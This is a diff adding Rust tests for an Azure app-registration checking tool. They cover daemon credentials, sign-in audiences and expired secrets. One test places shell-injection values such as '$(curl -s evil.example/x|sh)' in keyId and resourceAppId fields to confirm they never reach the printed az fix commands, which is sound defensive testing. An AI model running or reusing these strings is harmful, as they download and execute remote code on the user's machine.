@@ -2317,3 +2317,96 @@ fn live_mode_gives_up_on_a_graph_that_answers_each_page_just_in_time() {
     assert!(pages.calls() < 15, "{} pages", pages.calls());
     assert!(took < std::time::Duration::from_secs(15), "{took:?}");
 }
+
+/// `daemon-ok.json` changed by `edit`, written to a temporary file.
+fn edited_daemon(dir: &std::path::Path, name: &str, edit: impl FnOnce(&mut Value)) -> String {
+    let mut v = fixture_json("daemon-ok.json");
+    edit(&mut v);
+    let p = dir.join(name);
+    std::fs::write(&p, v.to_string()).unwrap();
+    p.display().to_string()
+}
+
+#[test]
+fn credentials_and_audiences_that_cannot_serve_a_daemon() {
+    let dir = tempfile::tempdir().unwrap();
+    let daemon = [
+        "--context",
+        "application",
+        "--permission",
+        "Machine.Read.All",
+    ];
+    let run_on = |file: &str| {
+        let mut args = vec![file];
+        args.extend_from_slice(&daemon);
+        run(&args)
+    };
+    // No credential at all, and none named: a warning that says so.
+    let none = edited_daemon(dir.path(), "none.json", |v| v["keyCredentials"] = json!([]));
+    let (_, v) = run_on(&none);
+    assert!(
+        finding(&v, "app.no_credential")["message"]
+            .as_str()
+            .unwrap()
+            .starts_with("an app-only daemon needs a credential"),
+        "{v}"
+    );
+    // A token-encryption certificate is no client credential.
+    let enc = edited_daemon(dir.path(), "enc.json", |v| {
+        v["keyCredentials"][0]["usage"] = json!("Encrypt")
+    });
+    let (_, v) = run_on(&enc);
+    assert!(codes(&v).contains(&"app.no_credential".to_string()), "{v}");
+    // Personal Microsoft accounts only: no tenant can use it.
+    let msa = edited_daemon(dir.path(), "msa.json", |v| {
+        v["signInAudience"] = json!("PersonalMicrosoftAccount")
+    });
+    let (code, v) = run_on(&msa);
+    assert_eq!(code, 1, "{v}");
+    assert_fix_line(
+        finding(&v, "app.personal_accounts_only"),
+        &format!(
+            "az ad app update --id {DAEMON} --sign-in-audience AzureADMyOrg   # or AzureADMultipleOrgs for an app other tenants use"
+        ),
+    );
+    // An expired secret beside a working certificate: clean-up, not a failure.
+    let both = edited_daemon(dir.path(), "both.json", |v| {
+        v["passwordCredentials"] = json!([{"keyId": "0c0a7c11-5a4e-4b8e-9d7a-3c2b1a0f9e8d",
+            "displayName": "old", "endDateTime": "2025-01-01T00:00:00Z"}])
+    });
+    let (code, v) = run_on(&both);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(
+        finding(&v, "app.secret_expired")["severity"],
+        "warning",
+        "{v}"
+    );
+}
+
+#[test]
+fn values_that_are_not_guids_never_reach_a_fix_line() {
+    // keyId and resourceAppId go into az command lines: a shell command
+    // smuggled in either is dropped, not printed for the user to paste.
+    let dir = tempfile::tempdir().unwrap();
+    let inj = edited_daemon(dir.path(), "inj.json", |v| {
+        v["passwordCredentials"] = json!([{"keyId": "$(curl -s evil.example/x|sh)",
+            "displayName": "s", "endDateTime": "2020-01-01T00:00:00Z"}]);
+        v["requiredResourceAccess"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!({"resourceAppId": "00000003-0000-0000-c000-000000000000; curl evil|sh #",
+                "resourceAccess": [{"id": "71fe6b80-7034-4028-9ed8-0f316df9c3ff", "type": "Role"}]}));
+    });
+    for format in ["human", "json"] {
+        let out = mdeauth()
+            .env_remove("MDEAUTH_GRAPH_TOKEN")
+            .args(["app", "--format", format, "--at", AT, &inj])
+            .args(["--context", "application", "--credential", "secret"])
+            .args(["--permission", "Machine.Read.All"])
+            .output()
+            .unwrap();
+        let all = String::from_utf8_lossy(&out.stdout).to_string();
+        assert!(!all.contains("curl"), "{format}: {all}");
+        assert!(!all.contains("$("), "{format}: {all}");
+    }
+}
